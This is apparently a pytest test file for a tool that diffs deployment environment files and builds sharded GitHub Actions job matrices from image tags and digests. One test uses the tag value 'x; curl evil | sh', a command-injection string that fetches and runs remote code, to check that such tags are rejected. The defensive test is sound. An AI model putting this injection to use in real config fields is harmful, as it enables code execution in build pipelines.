from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from actions.deployments.matrix import MOST_ENTRIES, Difference, Per, difference, entries, fits, shards
from actions.errors import EnvFileError, InputError, InvalidTagError
from actions.infra.layout import Layout, Snapshot
from actions.infra.tag_path import TagPath

A, B = "a" * 40, "b" * 40


def env(name: str, content: Any) -> Snapshot:
    text = content if isinstance(content, str) else json.dumps(content)
    return Layout.default("envs").group({f"envs/{name}.json": text})[name]


def test_an_environment_whose_tag_differs_is_deployed() -> None:
    found = [
        difference(env("dev", {"api": {"tag": B}}), env("dev", {"api": {"tag": A}})),
        difference(env("prod", {"api": {"tag": A}}), env("prod", {"api": {"tag": A}})),
    ]

    assert entries(found, per=Per.ENV, only_changed=True) == [
        {
            "env": "dev",
            "file": "envs/dev.json",
            "tags": {"api": B},
            "digests": {"api": ""},
            "previous": {"api": A},
            "changed": ["api"],
        }
    ]
    assert [entry["env"] for entry in entries(found, per=Per.ENV, only_changed=False)] == ["dev", "prod"]


def test_only_the_services_that_differ_are_deployed_one_by_one() -> None:
    now = env("dev", {"api": {"tag": B}, "web": {"tag": A}})

    found = difference(now, env("dev", {"api": {"tag": A}, "web": {"tag": A}}))

    assert entries([found], per=Per.SERVICE, only_changed=True) == [
        {"env": "dev", "service": "api", "file": "envs/dev.json", "tag": B, "digest": "", "previous": A}
    ]


def test_a_setting_that_changes_is_deployed_too() -> None:
    """A new URL of one service concerns that service; a new region concerns them all."""
    before = env("dev", {"region": "eu", "api": {"tag": A, "url": "x"}, "web": {"tag": A}})

    assert difference(
        env("dev", {"region": "eu", "api": {"tag": A, "url": "y"}, "web": {"tag": A}}), before
    ).changed == ("api",)
    assert difference(
        env("dev", {"region": "us", "api": {"tag": A, "url": "x"}, "web": {"tag": A}}), before
    ).changed == ("api", "web")


def test_a_list_around_the_services_is_compared_too() -> None:
    layout = Layout(patterns=("envs/{env}.yaml",), tag_path=TagPath.parse("images[name={service}].newTag"))
    text = "images:\n- {name: api, newTag: x}\n- {name: web, newTag: x}\n- {name: none}\nresources: [a, 1]\n"
    now, before = (layout.group({"envs/dev.yaml": t})["dev"] for t in (text.replace("[a,", "[b,"), text))

    assert difference(now, before).changed == ("api", "web")
    assert difference(
        now, layout.group({"envs/dev.yaml": text.replace("[a,", "[b,").replace("newTag: x}", "newTag: y}", 1)})["dev"]
    ).changed == ("api",)


def test_formatting_is_no_change() -> None:
    assert difference(env("dev", '{"api":{"tag":"x"}}'), env("dev", '{ "api": {"tag": "x"} }\n')).changed == ()


def test_without_a_past_everything_is_new() -> None:
    found = difference(env("dev", {"api": {"tag": A}, "web": {"tag": ""}}), None)

    assert (found.changed, found.previous, found.removed) == (("api",), {}, ())


def test_a_past_that_cannot_be_read_is_no_past() -> None:
    assert difference(env("dev", {"api": {"tag": A}}), env("dev", "{")).changed == ("api",)


def test_a_service_that_is_gone_concerns_its_environment() -> None:
    found = difference(env("dev", {"api": {"tag": A}}), env("dev", {"api": {"tag": A}, "job": {"tag": A}}))

    assert (found.changed, found.removed) == ((), ("job",))
    assert len(entries([found], per=Per.ENV, only_changed=True)) == 1
    assert entries([found], per=Per.SERVICE, only_changed=True) == []


def test_a_service_that_never_had_a_tag_is_not_gone() -> None:
    before = env("dev", {"api": {"tag": A}, "web": {"tag": ""}})

    assert difference(env("dev", {"api": {"tag": B}, "web": {"tag": ""}}), before).removed == ()
    assert difference(env("dev", {"api": {"tag": B}}), before).removed == ()
    assert difference(env("dev", {"api": {"tag": ""}}), before).removed == ("api",)


def test_an_environment_that_is_the_same_has_no_difference() -> None:
    now = env("dev", {"api": {"tag": A}, "web": {"tag": ""}})

    assert difference(now, now) == Difference(
        now=now, files={"api": "envs/dev.json", "web": "envs/dev.json"}, tags={"api": A}, previous={"api": A},
        changed=(),
    )  # fmt: skip


def test_a_difference_comes_with_the_environment_before() -> None:
    before = env("dev", {"api": {"tag": A}, "job": {"tag": A}})

    assert difference(env("dev", {"api": {"tag": B}}), before).snapshots_before == {"api": before, "job": before}
    assert difference(env("dev", {"api": {"tag": B}}), None).snapshots_before == {}


def test_the_part_of_a_difference_for_some_services_has_nothing_of_the_others() -> None:
    names = ("api", "web", "job", "cron")
    now, before = env("dev", {name: {"tag": B} for name in names[:2]}), env("dev", {name: {"tag": A} for name in names})

    whole = difference(now, before)

    assert whole.only([]) == whole
    assert whole.only(["web", "job"]) == Difference(
        now=now, files={"web": "envs/dev.json"}, tags={"web": B}, previous={"web": A, "job": A}, changed=("web",),
        removed=("job",), snapshots_before={"web": before, "job": before},
    )  # fmt: skip


@pytest.mark.parametrize(
    ("now", "before", "only_changed", "expected"),
    [
        pytest.param({"api": {"tag": A}}, {"api": {"tag": A}}, True, 0, id="the same"),
        pytest.param({"api": {"tag": A}}, {"api": {"tag": A}}, False, 1, id="the same, all asked for"),
        pytest.param({"api": {"tag": B}}, {"api": {"tag": A}}, True, 1, id="a change"),
        pytest.param({"api": {"tag": A}}, {"api": {"tag": A}, "job": {"tag": A}}, True, 1, id="a removal"),
        pytest.param({}, {"api": {"tag": A}}, True, 0, id="nothing left to deploy"),
        pytest.param({}, {}, False, 0, id="nothing at all"),
    ],
)
def test_an_environment_is_deployed_if_it_differs_or_all_are_asked_for(
    now: dict[str, Any], before: dict[str, Any], expected: int, *, only_changed: bool
) -> None:
    found = entries([difference(env("dev", now), env("dev", before))], per=Per.ENV, only_changed=only_changed)

    assert len(found) == expected


def test_an_environment_without_tags_has_nothing_to_deploy() -> None:
    found = difference(env("dev", {"api": {"tag": ""}}), None)

    assert entries([found], per=Per.ENV, only_changed=False) == []


def test_a_matrix_can_be_narrowed_to_services() -> None:
    found = difference(env("dev", {"api": {"tag": B}, "web": {"tag": B}}), None).only(["web"])

    assert entries([found], per=Per.ENV, only_changed=True) == [
        {
            "env": "dev",
            "file": "envs/dev.json",
            "tags": {"web": B},
            "digests": {"web": ""},
            "previous": {},
            "changed": ["web"],
        }
    ]


def test_a_file_for_each_service_is_compared_as_a_whole() -> None:
    layout = Layout(patterns=("{service}/{env}.yaml",), tag_path=TagPath.parse("image.tag"))
    texts = {"api/dev.yaml": "image: {tag: x}", "web/dev.yaml": "image: {tag: x}"}
    added = difference(layout.group(texts)["dev"], layout.group({"api/dev.yaml": texts["api/dev.yaml"]})["dev"])
    assert added.changed == ("web",)
    assert added.only(["web"]).files == {"web": "web/dev.yaml"}
    now, before = (
        layout.group({"api/dev.yaml": "image: {tag: x}", "web/dev.yaml": f"image: {{tag: x}}\nreplicas: {n}"})["dev"]
        for n in (2, 1)
    )

    assert difference(now, before).changed == ("web",)


def service_entry(env_name: str, service: str) -> dict[str, object]:
    return {"env": env_name, "service": service, "file": "f", "tag": A, "previous": B}


@given(st.dictionaries(st.from_regex("[a-z]{1,6}", fullmatch=True), st.integers(1, 400), min_size=1, max_size=6))
def test_no_entry_is_lost_in_shards_and_every_shard_fits(sizes: dict[str, int]) -> None:
    """What the inputs of the shards select is the matrix, every entry once."""
    matrix = [service_entry(name, f"s{n}") for name, size in sizes.items() for n in range(size)]

    parts = shards(matrix, services=())

    selected = []
    for part in parts:
        envs = str(part["environments"]).split(",")
        services = [name for name in str(part["service"]).split(",") if name]
        mine = [e for e in matrix if e["env"] in envs and (not services or e["service"] in services)]
        assert fits(mine)
        selected += mine
    assert sorted(map(str, selected)) == sorted(map(str, matrix))
    assert [part["shard"] for part in parts] == list(range(1, len(parts) + 1))


def test_a_matrix_of_long_entries_is_split_before_its_count_says_so() -> None:
    """GitHub counts the bytes of all outputs of a job as UTF-16."""
    entry = {"env": "x", "tags": {f"service-{n}": A for n in range(100)}}
    matrix = [entry | {"env": f"env-{n}"} for n in range(100)]

    assert not fits(matrix)
    assert len(shards(matrix, services=["a", "b"])) > 1
    assert shards(matrix, services=["a", "b"])[0]["service"] == "a,b"


def test_an_environment_that_is_too_large_for_an_output_is_refused() -> None:
    entry = {"env": "x", "tags": {f"service-{n}": A for n in range(9000)}}

    with pytest.raises(InputError, match="environment 'x' alone exceeds"):
        shards([entry], services=())


def test_a_tag_that_is_none_does_not_reach_a_job() -> None:
    with pytest.raises(InvalidTagError, match=r"in envs/dev\.json is not a tag"):
        difference(env("dev", {"api": {"tag": "x; curl evil | sh"}}), None)


def test_as_many_entries_as_github_takes_fit() -> None:
    matrix = [service_entry("dev", f"s{n}") for n in range(MOST_ENTRIES)]

    assert fits(matrix)
    assert not fits([*matrix, service_entry("dev", "one-more")])


@pytest.mark.parametrize(("characters", "expected"), [(400_000, True), (400_001, False)])
def test_as_many_characters_as_github_takes_fit(characters: int, *, expected: bool) -> None:
    """An entry is written without blanks, and takes a comma."""
    entry = {"env": "dev", "x": ""}
    entry["x"] = "x" * (characters - len('{"env":"dev","x":""},'))

    assert fits([entry]) is expected


@pytest.mark.parametrize(
    ("sizes", "expected"),
    [
        pytest.param({"a": 256, "b": 1}, [("a", ""), ("b", "")], id="one that fills a shard"),
        pytest.param({"a": 255, "b": 1}, [("a,b", "")], id="two that fill a shard"),
        pytest.param({"a": 1, "b": 255, "c": 1}, [("a,b", ""), ("c", "")], id="one more"),
        pytest.param({"a": 257, "b": 1}, [("b", ""), ("a", 256), ("a", 1)], id="one that is split"),
    ],
)
def test_environments_are_packed_in_order(sizes: dict[str, int], expected: list[tuple[str, str | int]]) -> None:
    matrix = [service_entry(name, f"s{number}") for name, size in sizes.items() for number in range(size)]

    found = [(str(part["environments"]), str(part["service"])) for part in shards(matrix, services=())]

    assert [(envs, len(names.split(",")) if names else "") for envs, names in found] == expected


def test_an_entry_that_is_too_large_has_a_shard_of_its_own() -> None:
    matrix = [service_entry("dev", "s") | {"x": "x" * 400_000}, service_entry("dev", "t")]

    assert [part["service"] for part in shards(matrix, services=())] == ["s", "t"]


def test_every_service_is_deployed_if_all_are_asked_for() -> None:
    now, before = env("dev", {"api": {"tag": B}, "web": {"tag": A}}), env("dev", {"api": {"tag": A}, "web": {"tag": A}})
    found = [difference(now, before)]

    assert [entry["service"] for entry in entries(found, per=Per.SERVICE, only_changed=False)] == ["api", "web"]
    assert [entry["service"] for entry in entries(found, per=Per.SERVICE, only_changed=True)] == ["api"]


@pytest.mark.parametrize(("characters", "number"), [(200_000, 1), (200_001, 2)])
def test_entries_share_a_shard_up_to_as_many_characters_as_github_takes(characters: int, number: int) -> None:
    entries_ = [{"env": name, "service": "", "x": ""} for name in "ab"]
    for entry, wanted in zip(entries_, (200_000, characters), strict=True):
        entry["x"] = "x" * (wanted - len('{"env":"a","service":"","x":""},'))

    assert len(shards(entries_, services=())) == number


def test_environments_share_a_shard_as_long_as_they_fit() -> None:
    matrix = [service_entry(name, f"s{number}") for name in ("a", "b", "c") for number in range(100)]

    assert [part["environments"] for part in shards(matrix, services=())] == ["a,b", "c"]


# Digests

D, E = "sha256:" + "d" * 64, "sha256:" + "e" * 64


def test_a_job_gets_the_digests_beside_the_tags() -> None:
    now = env("dev", {"api": {"tag": A, "digest": D}, "web": {"tag": A}, "job": {"tag": "", "digest": E}})
    found = difference(now, None)

    (whole,) = entries([found], per=Per.ENV, only_changed=True)
    parts = entries([found], per=Per.SERVICE, only_changed=True)

    assert whole["digests"] == {"api": D, "web": ""}
    assert [(part["service"], part["digest"]) for part in parts] == [("api", D), ("web", "")]


def test_the_same_tag_with_another_digest_is_a_difference() -> None:
    now, before = (env("dev", {"api": {"tag": A, "digest": digest}, "web": {"tag": A}}) for digest in (E, D))

    found = difference(now, before)

    assert found.changed == ("api",)
    assert (found.digest("api"), found.digest_before("api")) == (E, D)
    assert (found.digest("web"), found.digest_before("web")) == ("", "")
    assert difference(now, None).digest_before("api") == ""


@pytest.mark.parametrize("per", list(Per))
def test_what_is_no_digest_reaches_no_job_and_blocks_no_other(per: Per) -> None:
    odd = difference(env("dev", {"api": {"tag": A, "digest": "odd"}, "web": {"tag": A, "digest": D}}), None)
    fine = difference(env("prod", {"api": {"tag": A, "digest": D}}), None)

    assert [e["env"] for e in entries([odd.only(["web"]), fine], per=per, only_changed=True)] == ["dev", "prod"]
    with pytest.raises(EnvFileError, match=r"envs/dev\.json:1: the digest of 'api' is 'odd'"):
        entries([odd, fine], per=per, only_changed=True)


@pytest.mark.parametrize("per", list(Per))
def test_what_is_no_digest_blocks_nothing_where_nothing_is_deployed(per: Per) -> None:
    now = env("dev", {"api": {"tag": A, "digest": "odd"}})

    assert entries([difference(now, now)], per=per, only_changed=True) == []
